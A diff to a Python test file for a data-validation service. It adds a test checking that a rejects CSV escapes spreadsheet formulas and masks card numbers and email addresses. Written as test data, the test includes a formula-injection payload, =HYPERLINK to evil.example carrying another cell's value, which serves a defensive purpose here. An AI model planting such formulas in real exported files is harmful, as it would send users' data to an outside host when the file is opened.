@@ -8,6 +8,7 @@ import os
 import pandas as pd
 import pytest
 
+from service.rejects_files import write_rejects
 from service.tables import Bounds, DataError, load_tables, parse_timestamp, validate_tables
 
 GOOD = pd.DataFrame(
@@ -284,7 +285,7 @@ def test_rejects_with_unencodable_values_are_still_written(tmp_path):
             )
         }
     )
-    path = loaded.write_rejects(tmp_path)["orders"]
+    path = write_rejects(loaded.rejects, tmp_path)["orders"]
     assert "lone surrogate" in path.read_text()
 
 
@@ -470,3 +471,32 @@ def test_an_unclosed_quote_and_a_semicolon_file_are_told_as_they_are(tmp_path):
     (tmp_path / "orders.csv").write_text("order_id;customer_id;order_ts;amount\nO1;C1;2024-01-01;5,5\n")
     with pytest.raises(DataError, match=r"the header looks separated by ';'.*save the file with commas"):
         load_tables(tmp_path)
+
+
+def test_the_rejects_file_neither_runs_formulas_nor_holds_contact_data(tmp_path):
+    """Rejected cells were written as they stood: "=HYPERLINK(...)" ran when the file was opened in a spreadsheet, and
+    a card number typed into amount or an address into order_ts was kept (hostile probe, stop 30, F4 and F5)."""
+    loaded = validate_tables(
+        {
+            "orders": pd.DataFrame(
+                {
+                    "order_id": ["o1", "o2", "o3", "o4", "o5"],
+                    "customer_id": ["a", "b", "c", "d", "e"],
+                    "order_ts": ["2025-01-01", "john.doe@example.com", "2025-01-01", "2025-01-01", "2025-01-01"],
+                    "amount": [
+                        "4111 1111 1111 1111",
+                        "1",
+                        '=HYPERLINK("http://evil.example/?x="&B2,"fix")',
+                        "-5",
+                        "@SUM(1+1)",
+                    ],
+                }
+            )
+        }
+    )
+    back = pd.read_csv(write_rejects(loaded.rejects, tmp_path)["orders"], dtype=str, keep_default_na=False)
+    cells = set(back["amount"]) | set(back["order_ts"])
+    assert "[card]" in cells and "[email]" in cells
+    assert not any(c.startswith(("=", "@", "+")) for c in cells), cells
+    assert '\'=HYPERLINK("http://evil.example/?x="&B2,"fix")' in cells and "'@SUM(1+1)" in cells
+    assert "-5" in cells  # a plain number is not a formula
